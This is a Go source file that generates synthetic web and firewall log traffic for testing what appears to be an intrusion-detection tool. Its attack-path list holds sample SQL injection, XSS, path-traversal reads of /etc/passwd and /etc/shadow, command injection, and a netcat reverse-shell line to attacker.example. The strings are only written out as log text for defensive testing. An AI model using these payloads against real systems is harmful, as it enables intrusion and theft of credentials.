package input

import (
	"bytes"
	"context"
	"encoding/json"
	"math/rand"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rs/zerolog/log"

	"github.com/Skyrzilla/Dual-Domain-Cyber-Electronic-Warfare-Defence-Integration/internal/domain"
)

type OutputFormat int

const (
	FormatCLF OutputFormat = iota
	FormatJSON
)

// DemoGenerator produces a synthetic mix of benign web traffic, injection
// attempts, port scans and SYN floods. HTTP requests are written as
// combined log or JSON lines, network activity as netfilter LOG lines.
type DemoGenerator struct {
	rate          int
	bufferSize    int
	attackPercent int
	outputFormat  OutputFormat
	seed          int64
	mu            sync.Mutex
	running       bool
	stopChan      chan struct{}
	generated     atomic.Uint64

	normalIPs   []netip.Addr
	attackerIPs []netip.Addr
	targetIP    netip.Addr
	normalPaths []string
	attackPaths []string
	normalUAs   []string
	attackerUAs []string
	bufferPool  sync.Pool
}

type DemoConfig struct {
	Rate          int
	BufferSize    int
	AttackPercent int
	Format        OutputFormat
	// Seed fixes the random sequence; zero seeds from the clock.
	Seed int64
}

func DefaultDemoConfig() DemoConfig {
	return DemoConfig{
		Rate:          1000,
		BufferSize:    50000,
		AttackPercent: 15,
		Format:        FormatCLF,
	}
}

func NewDemoGenerator(config DemoConfig) *DemoGenerator {
	if config.Rate <= 0 {
		config.Rate = 1000
	}
	if config.BufferSize <= 0 {
		config.BufferSize = 10000
	}
	if config.AttackPercent < 0 || config.AttackPercent > 100 {
		config.AttackPercent = 15
	}

	return &DemoGenerator{
		rate:          config.Rate,
		bufferSize:    config.BufferSize,
		attackPercent: config.AttackPercent,
		outputFormat:  config.Format,
		seed:          config.Seed,
		stopChan:      make(chan struct{}),
		normalIPs: generateIPPool(2000, []string{
			"192.168.", "10.0.", "10.1.", "172.16.", "100.64.",
		}),
		attackerIPs: generateIPPool(200, []string{
			"45.33.", "185.220.", "89.234.", "91.121.", "51.15.",
			"104.244.", "198.98.", "209.141.", "23.129.", "171.25.",
		}),
		targetIP: netip.MustParseAddr("10.0.0.1"),
		normalPaths: []string{
			"/", "/index.html", "/about", "/contact", "/products", "/services",
			"/api/users", "/api/products", "/api/orders", "/api/v1/health",
			"/css/main.css", "/js/app.js", "/images/logo.png",
			"/login", "/register", "/dashboard", "/profile", "/settings",
			"/cart", "/checkout", "/search?q=network+security", "/blog",
		},
		attackPaths: []string{
			"/search?q=' OR 1=1--",
			"/products?id=1 UNION SELECT username,password FROM users--",
			"/api/users?filter=1; DROP TABLE users;--",
			"/login?user=admin'--",
			"/page?id=1 AND SLEEP(5)--",
			"/comment?text=<script>alert('XSS')</script>",
			"/search?q=<img onerror=alert(1) src=x>",
			"/page?x=javascript:alert(document.cookie)",
			"/../../../etc/passwd",
			"/files/../../etc/shadow",
			"/.git/config",
			"/.env",
			"/api/ping?host=;cat /etc/passwd",
			"/cmd?exec=$(/bin/bash -i)",
			"/exec?run=;nc -e /bin/sh attacker.example 4444",
			"/download?file=php://filter/convert.base64-encode/resource=/etc/passwd",
			"/wp-admin/", "/phpmyadmin/", "/administrator/",
		},
		normalUAs: []string{
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
			"Mozilla/5.0 (Macintosh; Intel Mac OS X) Safari/17.0",
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/121.0",
			"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Mobile Safari",
		},
		attackerUAs: []string{
			"sqlmap/1.7.11#stable",
			"Nikto/2.1.6",
			"DirBuster-1.0-RC1",
			"python-requests/2.31.0",
			"curl/8.4.0",
		},
		bufferPool: sync.Pool{
			New: func() interface{} {
				return bytes.NewBuffer(make([]byte, 0, 512))
			},
		},
	}
}

func (g *DemoGenerator) Start(ctx context.Context) (<-chan domain.RawRecord, <-chan error) {
	recordChan := make(chan domain.RawRecord, g.bufferSize)
	errChan := make(chan error, 1)

	g.mu.Lock()
	if g.running {
		g.mu.Unlock()
		close(recordChan)
		close(errChan)
		return recordChan, errChan
	}
	g.running = true
	g.stopChan = make(chan struct{})
	stop := g.stopChan
	g.mu.Unlock()

	go func() {
		defer close(recordChan)
		defer close(errChan)

		log.Info().Int("rate", g.rate).Int("attack_percent", g.attackPercent).Msg("Demo generator started (batch mode)")

		batchesPerSecond := 20
		batchSize := g.rate / batchesPerSecond
		if batchSize < 1 {
			batchSize = 1
			batchesPerSecond = g.rate
		}

		ticker := time.NewTicker(time.Second / time.Duration(batchesPerSecond))
		defer ticker.Stop()

		seed := g.seed
		if seed == 0 {
			seed = time.Now().UnixNano()
		}
		rng := rand.New(rand.NewSource(seed))

		var pending []string
		for {
			select {
			case <-ctx.Done():
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped (context cancelled)")
				return
			case <-stop:
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped")
				return
			case now := <-ticker.C:
				for i := 0; i < batchSize; i++ {
					if len(pending) == 0 {
						pending = g.nextScenario(rng, now)
					}
					rec := domain.RawRecord{Data: pending[0], ReceivedAt: now, Origin: "demo"}
					select {
					case recordChan <- rec:
						pending = pending[1:]
						g.generated.Add(1)
					default:
						// consumer is behind; drop the rest of this batch
						i = batchSize
					}
				}
			}
		}
	}()

	return recordChan, errChan
}

// nextScenario returns the lines of one scenario: a single request, or a
// whole scan or flood burst from one attacker.
func (g *DemoGenerator) nextScenario(rng *rand.Rand, now time.Time) []string {
	if rng.Intn(100) >= g.attackPercent {
		return []string{g.requestLine(now, g.normalIPs[rng.Intn(len(g.normalIPs))],
			"GET", g.normalPaths[rng.Intn(len(g.normalPaths))], g.normalUAs[rng.Intn(len(g.normalUAs))], 200)}
	}

	attacker := g.attackerIPs[rng.Intn(len(g.attackerIPs))]
	switch rng.Intn(10) {
	case 0:
		return g.portScan(now, attacker, 25+rng.Intn(20))
	case 1:
		return g.synFlood(now, attacker, 120+rng.Intn(40))
	default:
		statuses := []int{200, 400, 403, 404, 500}
		return []string{g.requestLine(now, attacker, "GET",
			g.attackPaths[rng.Intn(len(g.attackPaths))], g.attackerUAs[rng.Intn(len(g.attackerUAs))],
			statuses[rng.Intn(len(statuses))])}
	}
}

func (g *DemoGenerator) portScan(now time.Time, src netip.Addr, ports int) []string {
	lines := make([]string, ports)
	for i := range lines {
		lines[i] = g.netfilterLine(now.Add(time.Duration(i)*50*time.Millisecond), src, uint16(i+1), "SYN")
	}
	return lines
}

func (g *DemoGenerator) synFlood(now time.Time, src netip.Addr, attempts int) []string {
	lines := make([]string, attempts)
	for i := range lines {
		lines[i] = g.netfilterLine(now.Add(time.Duration(i)*10*time.Millisecond), src, 80, "SYN")
	}
	return lines
}

func (g *DemoGenerator) netfilterLine(ts time.Time, src netip.Addr, port uint16, flags string) string {
	var b strings.Builder
	b.Grow(160)
	b.WriteString(ts.UTC().Format(time.RFC3339Nano))
	b.WriteString(" gw kernel: SENTINEL-IN: IN=eth0 OUT= SRC=")
	b.WriteString(src.String())
	b.WriteString(" DST=")
	b.WriteString(g.targetIP.String())
	b.WriteString(" LEN=60 PROTO=TCP SPT=")
	b.WriteString(strconv.Itoa(40000 + int(port)%20000))
	b.WriteString(" DPT=")
	b.WriteString(strconv.Itoa(int(port)))
	b.WriteString(" WINDOW=64240 RES=0x00 ")
	b.WriteString(flags)
	b.WriteString(" URGP=0")
	return b.String()
}

func (g *DemoGenerator) requestLine(ts time.Time, src netip.Addr, method, path, ua string, status int) string {
	if g.outputFormat == FormatJSON {
		return g.jsonLine(ts, src, method, path, ua, status)
	}
	return clfLine(ts, src, method, path, ua, status)
}

func clfLine(ts time.Time, src netip.Addr, method, path, ua string, status int) string {
	var b strings.Builder
	b.Grow(200)
	b.WriteString(src.String())
	b.WriteString(" - - [")
	b.WriteString(ts.Format(clfTimeLayout))
	b.WriteString("] \"")
	b.WriteString(method)
	b.WriteByte(' ')
	b.WriteString(path)
	b.WriteString(" HTTP/1.1\" ")
	b.WriteString(strconv.Itoa(status))
	b.WriteString(" 512 \"-\" \"")
	b.WriteString(ua)
	b.WriteByte('"')
	return b.String()
}

type demoJSONLine struct {
	Timestamp  string `json:"timestamp"`
	RemoteAddr string `json:"remote_addr"`
	Method     string `json:"request_method"`
	Path       string `json:"request_uri"`
	Protocol   string `json:"server_protocol"`
	Status     int    `json:"status"`
	UserAgent  string `json:"http_user_agent"`
}

func (g *DemoGenerator) jsonLine(ts time.Time, src netip.Addr, method, path, ua string, status int) string {
	buf := g.bufferPool.Get().(*bytes.Buffer)
	buf.Reset()
	defer g.bufferPool.Put(buf)

	enc := json.NewEncoder(buf)
	enc.SetEscapeHTML(false)
	err := enc.Encode(demoJSONLine{
		Timestamp:  ts.Format(time.RFC3339),
		RemoteAddr: src.String(),
		Method:     method,
		Path:       path,
		Protocol:   "HTTP/1.1",
		Status:     status,
		UserAgent:  ua,
	})
	if err != nil {
		return clfLine(ts, src, method, path, ua, status)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

func (g *DemoGenerator) Stop() error {
	g.mu.Lock()
	defer g.mu.Unlock()

	if !g.running {
		return nil
	}

	close(g.stopChan)
	g.running = false

	return nil
}

func (g *DemoGenerator) IsRunning() bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.running
}

func (g *DemoGenerator) Generated() uint64 {
	return g.generated.Load()
}

// Scenario exposes one generated scenario for tests and dry runs.
func (g *DemoGenerator) Scenario(rng *rand.Rand, now time.Time) []string {
	return g.nextScenario(rng, now)
}

func generateIPPool(count int, prefixes []string) []netip.Addr {
	ips := make([]netip.Addr, 0, count)
	perPrefix := count / len(prefixes)
	remainder := count % len(prefixes)

	for i, prefix := range prefixes {
		n := perPrefix
		if i < remainder {
			n++
		}
		for j := 0; j < n; j++ {
			third := (j / 254) % 256
			fourth := j%254 + 1
			if addr, err := netip.ParseAddr(prefix + strconv.Itoa(third) + "." + strconv.Itoa(fourth)); err == nil {
				ips = append(ips, addr)
			}
		}
	}

	return ips
}
